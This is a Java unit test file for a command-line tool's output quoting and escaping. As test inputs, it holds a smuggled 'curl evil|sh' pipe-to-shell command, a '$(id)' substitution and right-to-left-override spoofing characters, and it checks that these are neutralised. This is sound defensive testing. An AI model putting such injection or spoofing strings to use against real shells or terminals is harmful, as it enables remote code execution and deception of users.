package ai.neuraldivergence.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.neuraldivergence.proto.v1.ReferenceOrigin;
import org.junit.jupiter.api.Test;

/**
 * What the CLI prints from the service's answers: a line meant to be pasted into a shell reads back as it was
 * printed, whatever a tag value holds; an enum value added by a newer service prints as unknown instead of failing
 * the whole listing.
 */
class TextTest {

    @Test
    void aHintLineQuotesWhatAShellWouldRead() {
        assertEquals("ref:calm@tag:source=prod", Text.shellWord("ref:calm@tag:source=prod"));
        assertEquals("2026-12-06T10:00:00Z/2026-12-06T10:01:00Z",
                Text.shellWord("2026-12-06T10:00:00Z/2026-12-06T10:01:00Z"));
        assertEquals("'ref:calm@tag:s=x;curl evil|sh'", Text.shellWord("ref:calm@tag:s=x;curl evil|sh"));
        assertEquals("'a $(id) b'", Text.shellWord("a $(id) b"));
        assertEquals("'it'\\''s'", Text.shellWord("it's"));
    }

    /** What a terminal prints for {@code text} written through the CLI's output. */
    private static String printed(String text) throws Exception {
        java.io.StringWriter sink = new java.io.StringWriter();
        try (java.io.PrintWriter w = new java.io.PrintWriter(new VisibleWriter(sink))) {
            w.print(text);
        }
        return sink.toString();
    }

    @Test
    void charactersATerminalWouldHideOrReorderArePrintedAsEscapes() throws Exception {
        // a right-to-left override would show "tap-lave" as "tap-eval"; zero-width and tag characters show nothing
        assertEquals("tap-\\u202eeval", printed("tap-\u202eeval"));
        assertEquals("a\\u200bb \\u2066x\\u2069 \\u0007", printed("a\u200bb \u2066x\u2069 \u0007"));
        assertEquals("tag\\udb40\\udc41", printed("tag\uDB40\uDC41"));
        // what a terminal shows as itself stays: line ends, tabs, accents, other scripts, emoji
        String plain = "Zürich 東京 \uD83D\uDE00\tcol\nnext";
        assertEquals(plain, printed(plain));
        // --json: the escape is JSON's own, so a script reads the name unchanged
        ai.neuraldivergence.proto.v1.CatalogModel model = ai.neuraldivergence.proto.v1.CatalogModel.newBuilder()
                .setModelId("fraud\u202e-cnn\uDB40\uDC41").build();
        ai.neuraldivergence.proto.v1.CatalogModel.Builder back = ai.neuraldivergence.proto.v1.CatalogModel
                .newBuilder();
        String json = printed(com.google.protobuf.util.JsonFormat.printer().print(model));
        assertTrue(json.contains("fraud\\u202e-cnn\\udb40\\udc41"), json);
        com.google.protobuf.util.JsonFormat.parser().merge(json, back);
        assertEquals(model.getModelId(), back.getModelId());
    }

    @Test
    void aHintLineShowsHiddenCharactersAndStillPastesAsTheSameWord() throws Exception {
        String word = "ref:calm@tag:source=pr\u202eod's \\ \uDB40\uDC41";
        String quoted = Text.shellWord(word);
        assertEquals("$'ref:calm@tag:source=pr\\u202eod\\'s \\\\ \\U000e0041'", quoted);
        assertEquals(quoted, printed(quoted), "nothing left for the output to escape");
        // bash reads it back as the word itself
        ProcessBuilder pb = new ProcessBuilder("bash", "-c", "printf %s " + quoted);
        pb.environment().put("LC_ALL", "C.UTF-8"); // bash writes \\U escapes as UTF-8 only in a UTF-8 locale
        Process p = pb.start();
        String read = new String(p.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        assertEquals(0, p.waitFor());
        assertEquals(word, read);
    }

    @Test
    void anEnumValueThisCliDoesNotKnowIsUnknown() {
        assertEquals("time_range", Text.word(ReferenceOrigin.REFERENCE_ORIGIN_TIME_RANGE, "REFERENCE_ORIGIN_"));
        assertEquals("unknown", Text.word(ReferenceOrigin.UNRECOGNIZED, "REFERENCE_ORIGIN_"));
    }
}
